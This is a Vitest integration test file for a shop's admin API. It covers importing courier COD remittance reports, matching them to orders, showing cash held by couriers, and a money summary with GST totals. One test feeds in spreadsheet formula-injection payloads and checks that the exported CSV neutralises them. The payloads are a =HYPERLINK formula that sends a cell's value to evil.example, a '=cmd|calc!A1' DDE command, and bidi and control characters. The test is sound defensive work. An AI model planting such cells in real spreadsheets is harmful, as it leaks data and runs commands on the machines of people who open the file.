/**
 * COD remittance and Money at a glance (docs/product.md "COD remittance", "Money at a glance"),
 * through the real API on SQLite and PostgreSQL: orders placed, their advances settled, their
 * parcels given AWBs and delivered by the owner's own routes; a Shiprocket remittance report matched
 * with one short payment, an AWB paid in two parts, an unknown AWB; the same report twice; hostile
 * cells; the dashboard's cash with couriers; and Money at a glance against a hand sum.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { invoiceTaxes } from '../../../common/gst.ts';
import type { MoneyGlance } from '../../../common/schemas/money.ts';
import type { CodCash, RemittanceImported, RemittanceImportReply } from '../../../common/schemas/remittance.ts';
import { adminCookie, multipart, placeOrder, settleAdvance } from '../../test-support/admin.ts';
import { createTestApp, type TestApp } from '../../test-support/app.ts';
import { TEST_DIALECTS } from '../../test-support/databases.ts';
import { BOOKS_SHOP_GSTIN } from '../../test-support/invoiced-orders.ts';
import { insertProduct, signUp } from '../../test-support/shoppers.ts';

const PRICE = 7000;
const ADVANCE = 300;
const BALANCE_PAISE = (PRICE - ADVANCE) * 100;
const HOSTILE = `=HYPERLINK("http://evil.example/?x="&A1,"Pay here")\u0007\u202E${'x'.repeat(300)}`;

describe.each(TEST_DIALECTS)('COD remittance and money at a glance on %s', (dialect) => {
  let t: TestApp;
  let admin: string;
  let productId: string;
  beforeAll(async () => {
    t = await createTestApp({
      dialect,
      env: { SHOP_GSTIN: BOOKS_SHOP_GSTIN, SHOP_ORDER_PREFIX: 'TSW', UNPAID_ORDERS_MAX: '100', COD_ADVANCE: '300' },
    });
    admin = await adminCookie(t);
    productId = (await insertProduct(t.app.db, { price: 9000, discountPrice: PRICE })).id;
  });
  afterAll(async () => t.close());

  const send = (method: 'GET' | 'POST' | 'PUT' | 'PATCH', url: string, payload?: object) =>
    t.app.inject({ method, url, headers: { cookie: admin }, ...(payload ? { payload } : {}) });

  /** An order placed by a new shopper, its advance received, its parcel given `awb` and delivered. */
  async function deliveredOrder(awb: string, buyer = 'Rahul Sharma'): Promise<string> {
    const shopper = await signUp(t.app, { name: buyer });
    const number = await placeOrder(t, shopper.cookie, productId);
    await settleAdvance(t, admin, number, 'received');
    const put = await send('PUT', `/api/admin/orders/${number}/shipment`, { courierName: 'Delhivery', awb });
    expect(put.statusCode, put.body).toBe(200);
    const step = await send('POST', `/api/admin/orders/${number}/shipment/step`, { step: 'delivered' });
    expect(step.statusCode, step.body).toBe(200);
    return number;
  }
  const upload = (data: string, field = 'remittance') => {
    const body = multipart([{ name: 'remittance.csv', data: Buffer.from(data), type: 'text/csv', field }]);
    return t.app.inject({
      method: 'POST',
      url: '/api/admin/books/remittances',
      headers: { cookie: admin, ...body.headers },
      payload: body.payload,
    });
  };
  const imported = async (data: string): Promise<RemittanceImported> => {
    const res = await upload(data);
    expect(res.statusCode, res.body).toBe(200);
    const reply: RemittanceImportReply = res.json();
    expect(reply.kind).toBe('imported');
    return reply as RemittanceImported;
  };
  const lineCount = async () =>
    Number(
      (
        await t.app.db
          .selectFrom('remittance_lines')
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );

  let paid: string;
  let short: string;
  let split: string;
  let late: string;
  let report: string;

  it('matches a Shiprocket report: one short payment, an AWB paid in two parts, an unknown AWB', async () => {
    paid = await deliveredOrder('DLV1000001');
    short = await deliveredOrder('DLV1000002');
    split = await deliveredOrder('DLV1000003');
    late = await deliveredOrder('DLV1000004');
    // Delivered 12 days ago, nothing remitted: late.
    const lateId = (
      await t.app.db.selectFrom('orders').select('id').where('number', '=', late).executeTakeFirstOrThrow()
    ).id;
    await t.app.db
      .updateTable('order_events')
      .set({ created_at: new Date(Date.now() - 12 * 86_400_000).toISOString() })
      .where('order_id', '=', lateId)
      .execute();
    report = [
      'COD Remittance Report,,,,,,',
      'AWB Code,Channel Order ID,Courier,COD Amount,Remitted Amount,Remittance Date,UTR',
      `DLV1000001,${paid},Delhivery,6700.00,"6,700.00",20-11-2026,AXISCN0012345678`,
      `DLV1000002,${short},Delhivery,6700.00,6500.00,20-11-2026,AXISCN0012345678`,
      `DLV1000003,${split},Delhivery,6700.00,4000.00,20-11-2026,AXISCN0012345678`,
      `DLV1000003,${split},Delhivery,6700.00,2700.00,27-11-2026,AXISCN0099999999`,
      'ZZZ9999999,SR-77,Delhivery,1200.00,1200.00,20-11-2026,AXISCN0012345678',
      'Total,,,,21100.00,,',
    ].join('\r\n');
    const result = await imported(report);
    expect(result).toMatchObject({
      layout: 'Shiprocket COD remittance',
      linesRead: 5,
      newLines: 5,
      skipped: { total: 1, rows: [{ line: 8 }] },
      total: 4,
    });
    expect(result.rows.map((r) => [r.awb, r.order, r.outcome, r.expectedPaise, r.remittedPaise])).toEqual([
      ['DLV1000002', short, 'short', BALANCE_PAISE, 650_000],
      ['ZZZ9999999', null, 'unknown', null, 120_000],
      ['DLV1000001', paid, 'paid', BALANCE_PAISE, BALANCE_PAISE],
      ['DLV1000003', split, 'paid', BALANCE_PAISE, BALANCE_PAISE],
    ]);
    const splitRow = result.rows.find((r) => r.awb === 'DLV1000003')!;
    expect(splitRow).toMatchObject({ remittedOn: '2026-11-27', reference: 'AXISCN0099999999' });
  });

  it('imports the same report twice with no change', async () => {
    const before = await lineCount();
    const cashBefore = (await send('GET', '/api/admin/books/cod-cash')).json();
    const again = await imported(report);
    expect(again.newLines).toBe(0);
    expect(again.rows.find((r) => r.awb === 'DLV1000002')).toMatchObject({ outcome: 'short', remittedPaise: 650_000 });
    expect(await lineCount()).toBe(before);
    expect((await send('GET', '/api/admin/books/cod-cash')).json()).toEqual(cashBefore);
  });

  it('shows the cash still with couriers, the late remittance and the short payment', async () => {
    const res = await send('GET', '/api/admin/books/cod-cash');
    expect(res.statusCode, res.body).toBe(200);
    const cash: CodCash = res.json();
    // The short payment's ₹200 and the late order's whole balance.
    expect(cash.withCouriersPaise).toBe(20_000 + BALANCE_PAISE);
    expect(cash.withCouriersOrders).toBe(2);
    expect(cash.late.rows.map((r) => r.order)).toEqual([late]);
    expect(cash.short.rows).toEqual([
      expect.objectContaining({ order: short, expectedPaise: BALANCE_PAISE, remittedPaise: 650_000 }),
    ]);
  });

  it('refuses a file with no AWB and amount columns, and another field, changing nothing', async () => {
    const before = await lineCount();
    const res = await upload('Date,Narration,Amount\n01/11/2026,hello,100\n');
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toMatch(/no AWB and remitted amount columns/);
    const wrong = await upload(report, 'statement');
    expect(wrong.statusCode).toBe(400);
    expect(await lineCount()).toBe(before);
  });

  it('keeps hostile cells plain and short, and the accountant’s CSV neutralises them', async () => {
    const hostileOrder = await deliveredOrder('DLV1000005', '=cmd|calc!A1');
    const csv = [
      'AWB,Order,Amount remitted,Remitted on,UTR',
      `DLV1000005,"${HOSTILE.replaceAll('"', '""')}",6700,2026-11-25,"${HOSTILE.replaceAll('"', '""')}"`,
      `"=HYPERLINK(""x"")",x,100,2026-11-25,x`,
    ].join('\n');
    const result = await imported(csv);
    expect(result.layout).toBe('Manual (the shop’s template)');
    expect(result.skipped.total).toBe(1);
    const row = result.rows.find((r) => r.awb === 'DLV1000005')!;
    expect(row.order).toBe(hostileOrder);
    // Cut to 60 characters and an ellipsis.
    expect(row.orderRef.length).toBeLessThanOrEqual(61);
    expect(row.orderRef).not.toMatch(/[\p{Cc}\u202E]/u);
    expect(row.reference.length).toBeLessThanOrEqual(61);

    const today = new Date(Date.now() + 5.5 * 3_600_000).toISOString().slice(0, 10);
    const res = await send('GET', `/api/admin/books/money.csv?from=${today}&to=${today}`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    const cells = res.body.split(/\r\n/).flatMap((line) => line.split(','));
    expect(res.body).toContain(`'=HYPERLINK`);
    expect(res.body).toContain(`'=cmd|calc!A1`);
    // Only a number may start with a minus sign; text starting with =, +, - or @ is guarded.
    for (const c of cells) expect(c.replace(/^"/, '')).toMatch(/^(?![=+\-@])|^-\d+(\.\d+)?$/);
    expect(res.body.includes('\u0007') || res.body.includes('\u202E')).toBe(false);
  });

  it('adds Money at a glance up to the hand sum of the seeded orders', async () => {
    // Two more: one cancelled before dispatch with its advance sent but unchecked, one sent awaiting.
    const shopper = await signUp(t.app);
    const cancelled = await placeOrder(t, shopper.cookie, productId);
    const cancel = await send('PATCH', `/api/admin/orders/${cancelled}/state`, { state: 'cancelled' });
    expect(cancel.statusCode, cancel.body).toBe(200);
    const other = await signUp(t.app);
    const waiting = await placeOrder(t, other.cookie, productId);
    const sent = await t.app.inject({
      method: 'POST',
      url: `/api/orders/${waiting}/advance`,
      headers: { cookie: other.cookie },
      payload: { utr: '632411117777' },
    });
    expect(sent.statusCode, sent.body).toBe(200);

    const today = new Date(Date.now() + 5.5 * 3_600_000).toISOString().slice(0, 10);
    const res = await send('GET', `/api/admin/books/money?from=${today}&to=${today}`);
    expect(res.statusCode, res.body).toBe(200);
    const m: MoneyGlance = res.json();
    // Seven orders of ₹7,000: five delivered with the advance received, one cancelled, one waiting.
    expect(m.orders).toEqual({
      placed: { count: 7, paise: 7 * PRICE * 100 },
      cancelled: { count: 1, paise: PRICE * 100 },
    });
    expect(m.advances).toEqual({
      received: { count: 5, paise: 5 * ADVANCE * 100 },
      awaitingCheck: { count: 1, paise: ADVANCE * 100 },
      // Nothing cancelled or returned held a received advance: nothing kept, refunded or to settle.
      kept: { count: 0, paise: 0 },
      toSettle: { count: 0, paise: 0 },
      refunded: { count: 0, paise: 0 },
    });
    // Remitted: paid 6,700 + short 6,500 + split 6,700 + hostile 6,700; the late one nothing.
    const remitted = (6700 + 6500 + 6700 + 6700) * 100;
    expect(m.cod).toEqual({
      delivered: 5,
      expectedPaise: 5 * BALANCE_PAISE,
      receivedPaise: remitted,
      outstandingPaise: 5 * BALANCE_PAISE - remitted,
    });
    expect(m.returns).toEqual({ count: 0, valuePaise: 0, lostPaise: 0 });
    // Five invoices (given at dispatch), intra-state (Maharashtra), 18%: each as its PDF computes it.
    const one = invoiceTaxes([{ unitPrice: PRICE, quantity: 1 }], 1800, 'intra').totals;
    expect(m.register.total).toBe(5);
    expect(m.gst).toEqual([
      { rateBp: 1800, taxablePaise: 5 * one.taxable, cgstPaise: 5 * one.cgst, sgstPaise: 5 * one.sgst, igstPaise: 0 },
    ]);
    expect(m.register.rows.reduce((s, r) => s + r.totalPaise, 0)).toBe(5 * PRICE * 100);
  });

  it('refuses a range backwards or longer than a year', async () => {
    for (const q of [
      'from=2026-11-30&to=2026-11-01',
      'from=2025-01-01&to=2026-11-01',
      'from=2026-02-30&to=2026-03-01',
    ]) {
      const res = await send('GET', `/api/admin/books/money?${q}`);
      expect(res.statusCode, q).toBe(400);
      expect(res.json().error.message).toMatch(/range of dates/);
    }
  });

  it('reads the common spellings of the AWB and the amount remitted (issue 34 item 9)', async () => {
    const number = await deliveredOrder('DLV1000006');
    for (const [awb, remitted] of [
      ['AWB', 'Remitted Amount'],
      ['AWB No.', 'Amount Remitted'],
      ['Airway Bill', 'COD Amount'],
      ['AWB Code', 'Remitted Amount'],
    ]) {
      const result = await imported(`${awb},${remitted},UTR\nDLV1000006,6700.00,AXISCN0055555555\n`);
      expect(result.rows, `${awb} / ${remitted}`).toEqual([
        expect.objectContaining({ awb: 'DLV1000006', order: number, remittedPaise: BALANCE_PAISE, outcome: 'paid' }),
      ]);
    }
  });

  it('asks the owner to map an unfamiliar report once, then reads it by itself (issue 34 item 9)', async () => {
    const number = await deliveredOrder('DLV1000007');
    const header = 'Sr,Waybill Ref,Client Order,Paid Out (INR),Paid On,Bank Txn';
    const report = [
      'XYZ Couriers remittance statement,,,,,',
      header,
      `1,DLV1000007,${number},"6,700.00",21-11-2026,HDFCR52026112100777`,
    ].join('\n');
    const before = await lineCount();
    const first = await upload(report);
    expect(first.statusCode, first.body).toBe(200);
    expect(first.json()).toEqual({
      kind: 'needs-mapping',
      fileName: 'remittance.csv',
      header: header.split(','),
      sample: [['1', 'DLV1000007', number, '6,700.00', '21-11-2026', 'HDFCR52026112100777']],
    });
    expect(await lineCount()).toBe(before);

    // A mapping that names a column the header lacks, or one column twice, is refused and kept nowhere.
    const layouts = () => t.app.db.selectFrom('statement_layouts').select('header_key').execute();
    const layoutsBefore = await layouts();
    const map = (body: object) => send('PUT', '/api/admin/books/remittance-layouts', body);
    const bad = await map({ header: header.split(','), awb: 'Docket', remitted: 'Paid Out (INR)' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.message).toContain('Please choose a column of this header row');
    const twice = await map({ header: header.split(','), awb: 'Waybill Ref', remitted: 'Waybill Ref' });
    expect(twice.statusCode).toBe(400);
    expect(await layouts()).toEqual(layoutsBefore);

    const saved = await map({
      header: header.split(','),
      awb: 'Waybill Ref',
      remitted: 'Paid Out (INR)',
      orderRef: 'Client Order',
      date: 'Paid On',
      reference: 'Bank Txn',
    });
    expect(saved.statusCode, saved.body).toBe(204);
    const read = await imported(report);
    expect(read).toMatchObject({ layout: 'Mapped by you', linesRead: 1, newLines: 1 });
    expect(read.rows).toEqual([
      expect.objectContaining({
        awb: 'DLV1000007',
        order: number,
        remittedPaise: BALANCE_PAISE,
        remittedOn: '2026-11-21',
        reference: 'HDFCR52026112100777',
        outcome: 'paid',
      }),
    ]);
    // The next week's report of the same layout is read by itself, with no mapping step.
    const next = await imported(`${header}\n2,DLV1000007,${number},0.00,28-11-2026,HDFCR52026112800001\n`);
    expect(next).toMatchObject({ layout: 'Mapped by you', linesRead: 1 });
    // The bank statement does not take the remittance's mapping for its own.
    const body = multipart([{ name: 's.csv', data: Buffer.from(report), type: 'text/csv', field: 'statement' }]);
    const statement = await t.app.inject({
      method: 'POST',
      url: '/api/admin/books/statements',
      headers: { cookie: admin, ...body.headers },
      payload: body.payload,
    });
    expect(statement.json().kind).not.toBe('imported');
  });
});
